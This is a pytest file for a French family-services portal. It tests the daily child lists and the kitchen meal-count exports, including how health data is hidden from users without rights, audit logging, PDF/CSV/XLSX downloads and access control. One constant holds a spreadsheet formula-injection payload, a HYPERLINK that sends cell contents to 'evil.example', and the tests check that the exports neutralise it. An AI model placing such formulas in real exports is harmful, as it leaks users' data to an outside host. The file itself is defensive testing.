"""The lists staff print and send (planning.sdi.listes): the day's list of
a prestation (screen, PDF, CSV, XLSX) with health data and authorised
persons, audited; the kitchen's meal counts per day, site and diet; the
formula injection of the downloads; who may read them."""

import csv
import datetime
import io

import openpyxl
import pytest
from pyramid.security import Allow
from substanced.util import get_oid, set_acl

from portail_famille import dates, journal
from portail_famille.demandes.cycle import signaler_modification
from portail_famille.demo import COMPTES, MARTIN
from portail_famille.inscriptions import inscrire
from portail_famille.planning import cells
from portail_famille.security import GROUPE_REGISSEURS, P, group_oid

from ..conftest import login, with_root
from .conftest import client
from .test_effectifs import COURANTE, _cantine, _enfant, agent_app, lucas, rows

BASE = "/manage/structures/garderie-periscolaire/restauration-scolaire/"
LISTE = BASE + "@@liste-du-jour"
COMMANDE = "/manage/structures/@@commande-repas"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def remplir_lucas(app, **identite):
    """LUCAS's health file, an authorised person, and ``identite``."""

    def change(root, registry):
        enfant = _enfant(root)
        enfant.section_modifiable("sanitaires").update(
            {"allergies": "arachide", "pai": "Oui", "regime_alimentaire": "Sans porc"}
        )
        enfant.section_modifiable("autorisations").update(
            {
                "personnes_autorisees": [
                    {"nom": "DURAND", "prenom": "PAUL", "lien": "Oncle", "telephone": "0601020304"}
                ],
                "partir_seul": "Non",
            }
        )
        for name, value in identite.items():
            setattr(enfant, name, value)
        # What accepting a request "Données sanitaires" tells (the kitchen's
        # index of diets listens).
        signaler_modification(registry, enfant)

    with_root(app.app, change)


def audits(app):
    """The RGPD audit's (login, what) entries, oldest first."""

    def read(root, registry):
        found, _suite = journal.lire(root, genre=journal.LECTURE, limite=100_000)
        return [(e["qui"], e["quoi"]) for e in reversed(found)]  # oldest first

    return with_root(app.app, read)


def test_agent_reads_the_days_list_with_health_and_persons(app):
    agent = agent_app(app)
    remplir_lucas(app)
    _oid, (day, _second) = lucas(app)
    before = len(audits(app))
    page = agent.get(LISTE + "?date=" + day.isoformat())
    heads = [th.get_text(strip=True) for th in page.html.select("table.liste thead th")]
    assert heads == [
        "Nom",
        "Prénom",
        "Classe",
        "N° famille",
        "État",
        "Allergies",
        "PAI",
        "Régime alimentaire",
        "Personnes autorisées",
        "Autorisation de partir seul",
    ]
    assert rows(page, "table.liste") == [
        [
            "DUPONT",
            "LUCAS",
            "CE1",
            "1001001818331",
            "Réservé",
            "arachide",
            "Oui",
            "Sans porc",
            "DURAND PAUL (Oncle, 0601020304)",
            "Non",
        ]
    ]
    assert page.html.select_one(".nombre").get_text() == "1"
    # The health data shown was audited, committed.
    assert audits(app)[before:] == [("agent", "sanitaires")]
    # Reached from the day's Effectifs.
    effectifs = agent.get(BASE + "@@effectifs?date=" + day.isoformat())
    lien = effectifs.html.select_one("a.liste-du-jour")["href"]
    assert lien.endswith("@@liste-du-jour?date=" + day.isoformat())
    # A day the canteen does not open: nobody.
    mercredi = day + datetime.timedelta(days=(2 - day.weekday()) % 7)
    page = agent.get(LISTE + "?date=" + mercredi.isoformat())
    assert page.html.select_one(".aucun") is not None


def test_a_reader_without_health_rights_gets_the_list_without_it(app):
    """A town that gives régisseurs the planning's lists (an ACL on the
    structures, as an administrator may set): the list without the health
    columns, nothing audited."""

    def ouvrir(root, registry):
        structures = root["structures"]
        regisseurs = group_oid(root, GROUPE_REGISSEURS)
        set_acl(structures, [*structures.__acl__, (Allow, regisseurs, P.PLANNING_VOIR)])

    remplir_lucas(app)
    with_root(app.app, ouvrir)
    regisseur = client(app)
    login(regisseur, "regisseur", COMPTES["regisseur"][0])
    _oid, (day, _second) = lucas(app)
    before = len(audits(app))
    page = regisseur.get(LISTE + "?date=" + day.isoformat())
    heads = [th.get_text(strip=True) for th in page.html.select("table.liste thead th")]
    assert heads == [
        "Nom",
        "Prénom",
        "Classe",
        "N° famille",
        "État",
        "Personnes autorisées",
        "Autorisation de partir seul",
    ]
    assert "arachide" not in page.text and "Sans porc" not in page.text
    response = regisseur.get(LISTE + "-csv?date=" + day.isoformat())
    assert "arachide" not in response.body.decode("utf-8-sig")
    assert rows(page, "table.liste")[0][:2] == ["DUPONT", "LUCAS"]
    assert audits(app)[before:] == []


def test_days_list_pdf(app):
    agent = agent_app(app)
    remplir_lucas(app)
    _oid, (day, _second) = lucas(app)
    response = agent.get(LISTE + "-pdf?date=" + day.isoformat())
    assert response.content_type == "application/pdf"
    assert response.body.startswith(b"%PDF-")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"


def test_downloads_write_a_hostile_name_as_text(app):
    agent = agent_app(app)
    remplir_lucas(app, prenom=HOSTILE)
    _oid, (day, _second) = lucas(app)
    response = agent.get(LISTE + "-csv?date=" + day.isoformat())
    assert response.content_type == "text/csv"
    lignes = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig")), delimiter=";"))
    assert lignes[0][:2] == ["Nom", "Prénom"]
    assert lignes[1][:2] == ["DUPONT", "'" + HOSTILE]
    assert lignes[1][5] == "arachide"

    response = agent.get(LISTE + "-xlsx?date=" + day.isoformat())
    feuille = openpyxl.load_workbook(io.BytesIO(response.body)).active
    cell = feuille.cell(row=2, column=2)
    assert cell.value == HOSTILE
    assert cell.data_type == "s"
    assert [c.value for c in feuille[1]][:3] == ["Nom", "Prénom", "Classe"]
    # The same in the kitchen's order of that day: counts stay numbers.
    query = "?du=%s&au=%s" % (day.isoformat(), day.isoformat())
    response = agent.get(COMMANDE + "-xlsx" + query)
    feuille = openpyxl.load_workbook(io.BytesIO(response.body)).active
    assert [c.value for c in feuille[2]] == [
        dates.courte(day),
        "Garderie périscolaire",
        1,
        0,
        1,
        0,
        0,
        1,
    ]


def reserves(app, debut, fin):
    """The days of [debut, fin] LUCAS's canteen cell is Réservé."""

    def read(root, registry):
        oid = get_oid(_cantine(root))
        tree = cells.cellules(_enfant(root))
        return [
            d
            for (_o, d), etat in tree.items(min=(oid, debut), max=(oid, fin))
            if etat == cells.RESERVE
        ]

    return with_root(app.app, read)


def test_kitchen_counts_match_the_planning(app):
    agent = agent_app(app)
    remplir_lucas(app)
    _oid, (first, _second) = lucas(app)
    debut, fin = first, first + datetime.timedelta(days=13)
    days = reserves(app, debut, fin)
    assert len(days) >= 4
    excuse, chloe_day = days[0], days[1]

    def change(root, registry):
        cantine = _cantine(root)
        enfant = _enfant(root)
        cells.set_cell(enfant, get_oid(cantine), excuse, cells.ABSENT_EXCUSE)
        chloe = _enfant(root, MARTIN["numero"])
        chloe.section_modifiable("sanitaires").update({"regime_alimentaire": "Végétarien"})
        signaler_modification(registry, chloe)
        inscrire(chloe, get_oid(cantine), COURANTE, root["calendrier"][COURANTE].debut)
        cells.set_cell(chloe, get_oid(cantine), chloe_day, cells.RESERVE)

    with_root(app.app, change)
    query = {"du": debut.isoformat(), "au": fin.isoformat()}
    page = agent.get(COMMANDE, query)
    expected = []
    for day in days[1:]:
        deux = day == chloe_day
        # Date, site, meals, standard, sans porc, sans viande, végétarien, PAI.
        expected.append(
            [dates.courte(day), "Garderie périscolaire"]
            + [str(n) for n in (2 if deux else 1, 0, 1, 0, 1 if deux else 0, 1)]
        )
    assert rows(page, "table.comptes") == expected
    heads = [th.get_text(strip=True) for th in page.html.select("table.comptes thead th")]
    assert heads == [
        "Date",
        "Site",
        "Repas",
        "Menu standard",
        "Sans porc",
        "Sans viande",
        "Végétarien",
        "dont PAI",
    ]
    response = agent.get(COMMANDE + "-csv", query)
    lignes = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig")), delimiter=";"))
    assert lignes[1:] == expected
    response = agent.get(COMMANDE + "-pdf", query)
    assert response.body.startswith(b"%PDF-")


def test_kitchen_defaults_to_next_week_and_refuses_bad_periods(shared, agent):
    page = agent.get(COMMANDE)
    today = dates.today()
    lundi = today + datetime.timedelta(days=7 - today.weekday())
    dimanche = lundi + datetime.timedelta(days=6)
    assert page.html.select_one("#du")["value"] == lundi.isoformat()
    assert page.html.select_one("#au")["value"] == dimanche.isoformat()
    assert dates.courte(lundi) in page.html.select_one("h3").get_text()
    for du, au in (("2026-02-30", "2026-03-01"), ("2026-03-10", "2026-03-01"), ("x", "")):
        page = agent.get(COMMANDE, {"du": du, "au": au})
        assert "Période invalide" in page.html.select_one("#periode-erreur").get_text()
    page = agent.get(COMMANDE, {"du": "2026-01-01", "au": "2026-03-01"})
    assert "Période trop longue" in page.html.select_one("#periode-erreur").get_text()


@pytest.mark.parametrize("role", ["dupont", "martin", "regisseur", "editeur", "anonymous"])
def test_others_get_no_list(request, shared, role):
    client = request.getfixturevalue(role)
    _oid, (day, _second) = lucas(shared)
    urls = [LISTE + suffix + "?date=" + day.isoformat() for suffix in ("", "-pdf", "-csv", "-xlsx")]
    urls += [COMMANDE + suffix for suffix in ("", "-pdf", "-csv", "-xlsx")]
    for url in urls:
        response = client.get(url, expect_errors=True)
        assert response.status_int in (302, 403, 404), (role, url, response.status)
        assert "LUCAS" not in response.text
        assert not response.body.startswith((b"%PDF", b"PK"))
